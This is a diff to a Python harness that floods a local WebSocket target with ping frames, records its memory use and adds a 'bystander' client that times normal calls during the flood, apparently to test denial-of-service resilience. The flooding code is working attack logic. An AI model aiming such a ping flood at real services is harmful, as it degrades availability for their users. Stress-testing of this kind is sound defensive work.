@@ -25,6 +25,7 @@ import argparse, base64, hashlib, json, os, select, shlex, socket, struct, subpr
 
 sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "flood"))
 from floodwire import Reader, connect, handshake, peak_rss, rss  # noqa: E402
+from bystander import Bystander  # noqa: E402
 
 MIB = 1 << 20
 GUID = "258EAFA5-E914-47DA-95CA-C5AB0DC85B11"
@@ -108,6 +109,10 @@ def mib(n):
     return "%.1f" % (n / MIB)
 
 
+def mib_value(n):
+    return round(n / MIB, 1)
+
+
 def main():
     p = argparse.ArgumentParser(description=__doc__.split("\n")[0])
     p.add_argument("--port", type=int, default=8123)
@@ -122,6 +127,10 @@ def main():
     p.add_argument("--batch", type=int, default=1,
                    help="pings per send call (TCP_NODELAY is on: small batches reach the target in many small reads)")
     p.add_argument("--payload", type=int, default=0, help="ping payload size in bytes (0...125)")
+    p.add_argument("--bystander", action="store_true",
+                   help="client mode: a well-behaved client calls the target every 250 ms meanwhile, timing its calls")
+    p.add_argument("--settle", type=float, default=0,
+                   help="after closing the flooding connection, wait this long and measure the target again")
     a = p.parse_args()
     if not 0 <= a.payload <= 125:
         p.error("--payload is 0...125")
@@ -139,6 +148,7 @@ def main():
         if not a.serve:
             wait_for_port(a.port)
     peak = 0
+    by = None
     try:
         time.sleep(0.5)
         rest = rss(a.pid)
@@ -157,6 +167,8 @@ def main():
             ping = bytes([0x89, 0x80 | a.payload]) + b"\0\0\0\0" + b"p" * a.payload  # all-zero masking key
         time.sleep(0.5)
         rest = max(rest, rss(a.pid))
+        if a.bystander and not a.serve:
+            by = Bystander(a.port).start()
         s.setblocking(False)
         s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
         batch_count = max(1, a.batch)
@@ -204,7 +216,24 @@ def main():
         peak = max(peak, final)
         print("rest %s MiB, peak %s MiB (+%s), final %s MiB, VmHWM %s MiB"
               % (mib(rest), mib(peak), mib(peak - rest), mib(final), mib(peak_rss(a.pid))), flush=True)
-        s.close()
+        calls = by.summary() if by else {}
+        if by:
+            by.stop()
+        if a.serve:
+            # A client app ends its connection attempt when its server goes: measure it while held.
+            time.sleep(a.settle)
+            after = alive_rss(a.pid)
+            s.close()
+        else:
+            s.close()
+            time.sleep(a.settle)
+            after = alive_rss(a.pid)
+        print("RESULT " + json.dumps({
+            "attack": "ping-flood-client" if a.serve else "ping-flood", "pings": sent,
+            "rest_mib": mib_value(rest), "peak_mib": mib_value(peak), "peak_above_rest_mib": mib_value(peak - rest),
+            "after_mib": mib_value(after), "after_above_rest_mib": mib_value(after - rest),
+            "calls": calls.get("calls"), "slowest_ms": calls.get("slowest_ms") and round(calls["slowest_ms"], 1),
+            "median_ms": calls.get("median_ms") and round(calls["median_ms"], 1), "call_errors": calls.get("errors")}), flush=True)
     except (TargetExited, FileNotFoundError):
         print("the target exited; peak RSS seen %s MiB" % mib(peak), flush=True)
     finally:
